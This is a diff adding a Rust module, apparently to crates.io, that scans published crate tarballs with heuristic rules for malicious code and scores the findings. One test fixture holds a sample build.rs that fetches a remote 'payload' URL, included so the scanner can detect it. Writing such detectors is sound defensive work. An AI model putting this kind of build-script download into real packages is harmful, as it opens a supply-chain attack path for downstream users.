@@ -0,0 +1,202 @@
+//! Heuristics for detecting potentially malicious code in published crates.
+//!
+//! The [`Scanner`] runs a set of [`Rule`]s against every file in a crate
+//! tarball. The scan does not block publishing, instead its findings are
+//! added to the admin triage queue, where they are reviewed by the crates.io
+//! team.
+
+mod rules;
+
+pub use rules::{BuildScriptNetworkAccess, KnownBadPatterns, ObfuscatedByteArrays};
+
+use anyhow::Context;
+use flate2::read::GzDecoder;
+use std::fmt;
+use std::io::Read;
+
+/// The maximum score of a scan result, regardless of how many rules matched.
+pub const MAX_SCORE: i32 = 100;
+
+/// Files larger than this are not scanned, since they are unlikely to be
+/// source code that is compiled as part of the crate.
+const MAX_FILE_SIZE: u64 = 1024 * 1024;
+
+/// A single file of a crate tarball, with the path relative to the package
+/// root directory.
+#[derive(Debug, Clone, Copy)]
+pub struct File<'a> {
+    pub path: &'a str,
+    pub contents: &'a str,
+}
+
+/// A heuristic that checks a single file for suspicious contents.
+pub trait Rule: Send + Sync {
+    /// A short, unique identifier of the rule.
+    fn name(&self) -> &'static str;
+
+    /// Returns a list of suspicious things found in the file.
+    fn check(&self, file: File<'_>) -> Vec<Finding>;
+}
+
+/// Something suspicious that was found by a [`Rule`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Finding {
+    pub rule: &'static str,
+    pub path: String,
+    pub description: String,
+    /// How strongly the finding indicates malicious intent, between 0 and
+    /// [`MAX_SCORE`].
+    pub score: i32,
+}
+
+impl fmt::Display for Finding {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let Finding {
+            rule,
+            path,
+            description,
+            score,
+        } = self;
+
+        write!(f, "[{rule}] {path}: {description} (score {score})")
+    }
+}
+
+/// The result of scanning a crate tarball.
+#[derive(Debug, Default)]
+pub struct ScanResult {
+    pub findings: Vec<Finding>,
+}
+
+impl ScanResult {
+    /// The combined score of all findings, capped at [`MAX_SCORE`].
+    pub fn score(&self) -> i32 {
+        let score = self
+            .findings
+            .iter()
+            .map(|finding| finding.score)
+            .sum::<i32>();
+        score.min(MAX_SCORE)
+    }
+}
+
+/// Runs a list of [`Rule`]s against the files of a crate tarball.
+pub struct Scanner {
+    rules: Vec<Box<dyn Rule>>,
+}
+
+impl Default for Scanner {
+    fn default() -> Self {
+        Self::new(vec![
+            Box::new(BuildScriptNetworkAccess),
+            Box::new(ObfuscatedByteArrays::default()),
+            Box::new(KnownBadPatterns::default()),
+        ])
+    }
+}
+
+impl Scanner {
+    pub fn new(rules: Vec<Box<dyn Rule>>) -> Self {
+        Self { rules }
+    }
+
+    /// Runs all rules against a single file.
+    pub fn scan_file(&self, file: File<'_>) -> Vec<Finding> {
+        self.rules
+            .iter()
+            .flat_map(|rule| rule.check(file))
+            .collect()
+    }
+
+    /// Decompresses a `.crate` file and runs all rules against the files
+    /// inside of it.
+    ///
+    /// Binary and overly large files are skipped. This function is blocking
+    /// and should be run via [`crate::tasks::spawn_blocking`].
+    pub fn scan_tarball(&self, tarball: &[u8]) -> anyhow::Result<ScanResult> {
+        let mut archive = tar::Archive::new(GzDecoder::new(tarball));
+
+        let mut result = ScanResult::default();
+        for entry in archive.entries().context("Failed to read tarball")? {
+            let mut entry = entry.context("Failed to read tarball entry")?;
+            if !entry.header().entry_type().is_file() || entry.size() > MAX_FILE_SIZE {
+                continue;
+            }
+
+            let path = entry.path().context("Failed to read entry path")?;
+            let path = path.to_string_lossy();
+            // Strip the `{name}-{version}/` prefix of the package directory.
+            let path = path.split_once('/').map_or(&*path, |(_, path)| path);
+            let path = path.to_string();
+
+            let mut contents = Vec::new();
+            entry
+                .read_to_end(&mut contents)
+                .with_context(|| format!("Failed to read {path}"))?;
+
+            let Ok(contents) = std::str::from_utf8(&contents) else {
+                continue;
+            };
+
+            let file = File {
+                path: &path,
+                contents,
+            };
+            result.findings.extend(self.scan_file(file));
+        }
+
+        Ok(result)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crates_io_tarball::TarballBuilder;
+
+    #[test]
+    fn test_scan_tarball() {
+        let tarball = TarballBuilder::new()
+            .add_file("foo-0.1.0/Cargo.toml", b"[package]\nname = \"foo\"\n")
+            .add_file("foo-0.1.0/src/lib.rs", b"pub fn foo() {}")
+            .add_file(
+                "foo-0.1.0/build.rs",
+                b"fn main() { reqwest::blocking::get(\"https://example.com/payload\"); }",
+            )
+            .add_file("foo-0.1.0/assets/logo.png", &[0xff, 0xd8, 0xff, 0x00])
+            .build();
+
+        let result = Scanner::default().scan_tarball(&tarball).unwrap();
+        assert_eq!(result.findings.len(), 1);
+        assert_eq!(result.findings[0].rule, "build-script-network-access");
+        assert_eq!(result.findings[0].path, "build.rs");
+        assert_eq!(result.score(), 40);
+    }
+
+    #[test]
+    fn test_scan_clean_tarball() {
+        let tarball = TarballBuilder::new()
+            .add_file("foo-0.1.0/Cargo.toml", b"[package]\nname = \"foo\"\n")
+            .add_file("foo-0.1.0/src/lib.rs", b"pub fn foo() {}")
+            .build();
+
+        let result = Scanner::default().scan_tarball(&tarball).unwrap();
+        assert!(result.findings.is_empty());
+        assert_eq!(result.score(), 0);
+    }
+
+    #[test]
+    fn test_score_is_capped() {
+        let finding = Finding {
+            rule: "test",
+            path: "src/lib.rs".into(),
+            description: "suspicious".into(),
+            score: 60,
+        };
+
+        let result = ScanResult {
+            findings: vec![finding.clone(), finding],
+        };
+        assert_eq!(result.score(), MAX_SCORE);
+    }
+}